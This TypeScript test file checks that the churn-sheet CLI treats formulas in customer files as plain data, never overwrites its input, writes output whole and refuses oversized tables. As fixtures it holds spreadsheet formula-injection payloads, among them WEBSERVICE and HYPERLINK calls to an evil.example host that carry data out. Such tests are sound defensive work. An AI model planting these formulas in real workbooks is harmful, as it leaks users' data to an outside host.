/**
 * churn-sheet never runs a stranger's formula and never destroys a file: what a customer file
 * holds stays values in the workbook it writes, the input is never the output, the output is
 * written whole or not at all, and a table too large for memory is refused before the work starts.
 */
import ExcelJS from 'exceljs';
import { existsSync, linkSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { translate } from '../../src/i18n';
import { HOSTILE_HEADER, foreignFormulas, formulaCells, hostileCsv, riskyFields } from '../helpers/hostileTable';
import { readWorkbook } from '../helpers/xlsx';
import { SAMPLE, parseJson, runCli, sampleLines, tempDir, writeInto } from './cliRun';

const dir = tempDir();
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const file = (name: string, content: string | Buffer) => writeInto(dir, name, content);
/** Files in the folder that the CLI left behind while writing (temporary files start with a dot). */
const leftovers = (folder = dir) => readdirSync(folder).filter((name) => name.startsWith('.'));

describe('a CSV that holds formulas is read as data', () => {
  const hostile = file('hostile.csv', hostileCsv(true));
  const hostileNoAmounts = file('hostile-no-mrr.csv', hostileCsv(false));

  async function customerSheet(workbook: ExcelJS.Workbook, amounts: boolean) {
    const customers = workbook.getWorksheet('Customers')!;
    for (const { row, col, text } of riskyFields(amounts)) {
      const value = customers.getRow(row + 1).getCell(col + 1).value;
      expect([row, col, value]).toEqual([row, col, text]);
    }
    return customers;
  }

  test('values: the header and ids stay text, two ids "=1+1 #5" and "=1+1 #6" are two customers, the workbook has no formula at all', async () => {
    const out = path.join(dir, 'hostile-values.xlsx');
    const result = await runCli(['build', hostile, '--values', '--json', '-o', out]);
    const table = parseJson(result);
    // Rows 2, 3 and 6; row 4's MRR and row 5's start date are text, not a number and a date.
    expect(table.customers).toBe(3);
    expect(table.problems).toEqual([
      'Row 4: the amount "=WEBSERVICE("http://evil.example/?x")" is not a number.',
      'Row 5: the start date "=DATE(2024,1,1)" is not a date.',
    ]);
    expect(result.stderr).toContain(`id "${HOSTILE_HEADER}"`);
    const workbook = await readWorkbook(out);
    expect(formulaCells(workbook)).toEqual([]);
    const customers = await customerSheet(workbook, true);
    expect(customers.getCell('A1').value).toBe(HOSTILE_HEADER);
    expect(customers.getCell('B2').value).toBeInstanceOf(Date); // real dates are still dates
    expect(customers.getCell('F3').value).toBe(12); // and numbers numbers
  });

  test('live formulas: the only formulas are the add-on\'s own on the churn sheet', async () => {
    const out = path.join(dir, 'hostile-live.xlsx');
    const table = parseJson(await runCli(['build', hostileNoAmounts, '--json', '-o', out]));
    expect(table.customers).toBe(4);
    const workbook = await readWorkbook(out);
    const formulas = formulaCells(workbook);
    expect(formulas.length).toBeGreaterThan(0);
    expect(foreignFormulas(formulas, table.sheet)).toEqual([]);
    await customerSheet(workbook, false);
  });

  test('an .xlsx gives its formulas\' saved results as values, never the formulas', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Customers');
    sheet.addRow(['Customer ID', 'Start date', 'End date']);
    sheet.addRow([{ formula: 'HYPERLINK("http://evil.example/?leak","C1")', result: 'C1' }, new Date('2024-01-05T00:00:00Z'), null]);
    sheet.addRow(['=1+1', { formula: 'DATE(2024,1,9)', result: new Date('2024-01-09T00:00:00Z') }, null]);
    sheet.addRow([{ formula: 'WEBSERVICE("http://evil.example/")' }, new Date('2024-01-10T00:00:00Z'), null]);
    const input = path.join(dir, 'formulas.xlsx');
    await workbook.xlsx.writeFile(input);
    const out = path.join(dir, 'formulas-out.xlsx');
    const table = parseJson(await runCli(['build', input, '--json', '--values', '-o', out]));
    expect(table.customers).toBe(3);
    const written = await readWorkbook(out);
    expect(formulaCells(written)).toEqual([]);
    const customers = written.getWorksheet('Customers')!;
    expect(customers.getCell('A2').value).toBe('C1');
    expect(customers.getCell('A3').value).toBe('=1+1');
    expect(customers.getCell('B3').value).toBeInstanceOf(Date);
    expect(customers.getCell('A4').value).toBeNull(); // no saved result: nothing
  });
});

describe('the input file is never replaced', () => {
  const workbookFile = async (name: string) => {
    const target = path.join(dir, name);
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Customers');
    for (const [i, cells] of sampleLines().entries()) sheet.addRow(i === 0 ? cells : [cells[0], new Date(`${cells[1]}T00:00:00Z`), cells[2] ? new Date(`${cells[2]}T00:00:00Z`) : null]);
    await workbook.xlsx.writeFile(target);
    return target;
  };

  test.each([
    ['the same path', (input: string) => input],
    ['another spelling of it', (input: string) => `${path.dirname(input)}/./sub/../${path.basename(input)}`],
    ['a symbolic link to it', (input: string) => {
      const link = path.join(dir, 'link.xlsx');
      rmSync(link, { force: true });
      symlinkSync(input, link);
      return link;
    }],
    ['a hard link to it', (input: string) => {
      const link = path.join(dir, 'hard.xlsx');
      rmSync(link, { force: true });
      linkSync(input, link);
      return link;
    }],
  ])('-o naming it (%s), even with --force', async (_how, outputOf) => {
    mkdirSync(path.join(dir, 'sub'), { recursive: true });
    const input = await workbookFile('mine.xlsx');
    const before = readFileSync(input);
    const output = outputOf(input);
    const result = await runCli(['build', input, '-o', output, '--force']);
    expect(result.code).toBe(1);
    expect(result.stderr).toBe(`churn-sheet: ${translate('en', 'cli.outputIsInput', { file: output })}\n`);
    expect(readFileSync(input).equals(before)).toBe(true);
  });
});

describe('the output is written whole or not at all', () => {
  test('a build leaves only the workbook in the folder, no temporary file', async () => {
    const folder = path.join(dir, 'clean');
    mkdirSync(folder);
    const out = path.join(folder, 'churn.xlsx');
    expect((await runCli(['build', SAMPLE, '-o', out])).code).toBe(0);
    expect((await runCli(['build', SAMPLE, '-o', out, '--values', '--force'])).code).toBe(0);
    expect(readdirSync(folder)).toEqual(['churn.xlsx']);
    expect(readFileSync(out).subarray(0, 2).toString()).toBe('PK');
  });

  test('a write that fails leaves what was there, and no temporary file', async () => {
    // A folder where the workbook should go: the rename onto it fails after the workbook was written.
    const folder = path.join(dir, 'blocked');
    mkdirSync(path.join(folder, 'churn.xlsx', 'inside'), { recursive: true });
    const out = path.join(folder, 'churn.xlsx');
    const result = await runCli(['build', SAMPLE, '-o', out, '--force']);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^churn-sheet: cannot write .*churn\.xlsx: /);
    expect(readdirSync(folder)).toEqual(['churn.xlsx']);
    expect(readdirSync(out)).toEqual(['inside']);
    expect(leftovers(folder)).toEqual([]);
  });
});

describe('a table too large for the memory Node.js may use is refused before the work starts', () => {
  test('a million rows under a 512 MB heap: exit 1, what it needs, and how to give it', async () => {
    const input = file('million.csv', `Customer ID,Start date,End date\n${'C,2024-01-01,\n'.repeat(1_000_000)}`);
    const out = path.join(dir, 'million.xlsx');
    const result = await runCli(['build', input, '-o', out], { TZ: 'UTC', CHURN_SHEET_HEAP_MB: '512' });
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    // stderr holds the refusal alone: no "reading" progress line, so no row was read first.
    expect(result.stderr).toMatch(/^churn-sheet: .*million\.csv has about 1000001 rows: building its churn sheet here needs about \d+ MB of memory, and Node\.js may use 512 MB\. Give it more memory, for example NODE_OPTIONS=--max-old-space-size=\d+ npx churn-sheet build \.\.\. With --values it needs about \d+ MB\.\n$/);
    const suggested = Number(/max-old-space-size=(\d+)/.exec(result.stderr)![1]);
    const needed = Number(/needs about (\d+) MB/.exec(result.stderr)![1]);
    expect(suggested).toBeGreaterThan(needed);
    expect(existsSync(out)).toBe(false);
  });

  test('the same check holds small tables to a small limit, in the user\'s language; --values needs less', async () => {
    // Between what the sample's 3,003 cells need with live formulas (64.95 MB) and with values (64.86 MB).
    const env = { TZ: 'UTC', LANG: 'nb_NO.UTF-8', CHURN_SHEET_HEAP_MB: '64.9' };
    const live = await runCli(['build', SAMPLE, '--json'], env);
    expect(live.code).toBe(1);
    expect(live.stderr).toMatch(/^churn-sheet: .*seed004-customers\.csv har omtrent 1001 rader: .* Med --values krever det omtrent \d+ MB\.\n$/);
    const values = await runCli(['build', SAMPLE, '--json', '--values'], env);
    expect(values.code).toBe(0);
  });
});

describe('hostile file names', () => {
  test.each(["'x'.csv", 'a[1]:b*?.csv', `${'long name '.repeat(12)}.csv`])('%j builds a workbook', async (name) => {
    const input = file(name, readFileSync(SAMPLE));
    const out = path.join(dir, `${name}.xlsx`);
    expect((await runCli(['build', input, '-o', out])).code).toBe(0);
    const workbook = await readWorkbook(out);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Customers', 'Churn by month']);
  });
});
